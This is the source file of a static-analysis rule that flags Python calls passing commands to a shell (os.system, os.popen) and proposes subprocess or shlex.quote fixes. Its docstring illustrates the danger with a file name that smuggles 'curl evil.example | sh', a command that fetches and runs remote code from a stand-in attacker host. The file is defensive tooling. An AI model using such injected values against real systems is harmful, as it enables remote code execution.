"""A command run by a function that always uses the shell, such as `os.system`.

The shell reads the whole string as a script. A file called `a.png; curl evil.example | sh` is then two commands, and
the file's name chose the second one.

## Bad

    import os

    def compress(name):
        os.system("gzip " + name)
    #   ^^^^^^^^^ Starting a process with a shell, possible injection detected, security issue.

    def clear():
        os.system("clear")
    #   ^^^^^^^^^ Starting a process with a shell: Seems safe


    import os

    def sizes(folder):
        return os.popen("du -s %s | sort -n" % folder).read()
    #          ^^^^^^^^ Starting a process with a shell, possible injection detected, security issue.

## Fixed

Run without a shell (review):

    import os
    import subprocess

    def compress(name):
        subprocess.run(["gzip", name], check=False)

    def clear():
        subprocess.run(["clear"], check=False)

Quote the values with shlex.quote (review):

    import os
    import shlex

    def sizes(folder):
        return os.popen("du -s %s | sort -n" % shlex.quote(str(folder))).read()

## Good

    import subprocess

    def compress(name):
        subprocess.run(["gzip", "--", name], check=True)

Best is no command at all: `gzip`, `shutil` and `os` do much of this in Python. `shlex.quote` is for POSIX shells: on
Windows, it does not protect.

## When to suppress

If the command is a constant that no value goes into, or if each value in it has gone through `shlex.quote` and the
program does not run on Windows.

## References

- https://docs.python.org/3/library/subprocess.html#replacing-os-system
- https://docs.python.org/3/library/os.html#os.system
- https://docs.python.org/3/library/shlex.html#shlex.quote
- https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html
"""

import ast
from collections.abc import Iterator

from posse_checks.rule import (
    HIGH,
    LOW,
    REVIEW,
    Call,
    Cwe,
    Edits,
    Finding,
    Source,
    UnfixableError,
    is_string,
    listed,
    rule,
)
from posse_checks.rules._shared.shell_functions import DEFAULTS, SECTION
from posse_checks.rules._shared.shell_words import command_list, quoted_values

SEEMS_SAFE = (
    "Starting a process with a shell: Seems safe, but may be changed in the future, consider rewriting without shell"
)


@rule(
    "B605",
    "start_process_with_a_shell",
    HIGH,
    HIGH,
    Cwe.OS_COMMAND_INJECTION,
    called=listed("shell"),
    section=SECTION,
    defaults=DEFAULTS,
    unfixable="the command needs the shell, or its parts cannot be told apart here",
)
def check(call: Call) -> Iterator[Finding]:
    """Report commands that are passed to a shell, with high severity unless the command is a plain string."""
    if not call.arguments:
        return
    is_plain = is_string(call.node.args[0])
    yield call.finding(
        SEEMS_SAFE if is_plain else "Starting a process with a shell, possible injection detected, security issue.",
        severity=LOW if is_plain else HIGH,
        span=call.span,
    )


@check.fix("Run without a shell", REVIEW, may_introduce=["B404", "B603", "B607"])
def start_directly(call: Call, source: Source) -> Edits:
    """Passes the words as a list to a function of `subprocess`. A missing program raises an exception.

    A function that reads the output raises one also if the program fails, and leaves its errors on standard error.
    """
    words = command_list(_command(call, source), source)
    if words.built.node is not call.node.args[0]:
        raise UnfixableError("the command is put together elsewhere")
    match call.name, source.ancestors:
        case "os.system", [ast.Expr(), *_]:
            return _called(call.node, "run", words.written, ", check=False)", source)
        case "os.system", _:
            return _called(call.node, "call", words.written, ")", source)
        case "os.popen", [ast.Attribute(attr="read"), ast.Call(args=[], keywords=[]) as reading, *_]:
            return _called(reading, "check_output", words.written, ", text=True)", source)
        case "os.popen", _:
            access = source.name_access("subprocess", "Popen").expression.removesuffix("Popen")
            if not access:
                raise UnfixableError("the constant PIPE is not imported")
            after = f", stdout={access}PIPE, text=True).stdout"
            return _called(call.node, "Popen", words.written, after, source)
        case "subprocess.getoutput", _:
            newline = source.quoted("\\n")
            return _called(call.node, "check_output", words.written, f", text=True).rstrip({newline})", source)
    raise UnfixableError("the result is used in a way that no other function offers")


@check.fix("Quote the values with shlex.quote", REVIEW, keeps_finding=True)
def quote(call: Call, source: Source) -> Edits:
    """Makes each value one word of the command, for a POSIX shell. An option in it still is one."""
    return quoted_values(_command(call, source), source)


def _command(call: Call, source: Source) -> ast.expr:
    """The command. Raises UnfixableError unless it is the only argument of a function of Python 3."""
    if call.name.startswith(("popen2.", "commands.")) or call.function in ("popen2", "popen3", "popen4"):
        raise UnfixableError("Python 3 has no such function")
    source.verify(call.node.func, call.name)
    if len(call.node.args) != 1 or call.node.keywords:
        raise UnfixableError("the call has other arguments")
    return call.node.args[0]


def _called(node: ast.expr, function: str, words: str, after: str, source: Source) -> Edits:
    """Calls a function of `subprocess` in place of a call."""
    if "#" in source.slice(node):
        raise UnfixableError("a comment would be lost")
    return source.replaced_by_name(node, "subprocess", function, f"({words}{after}")
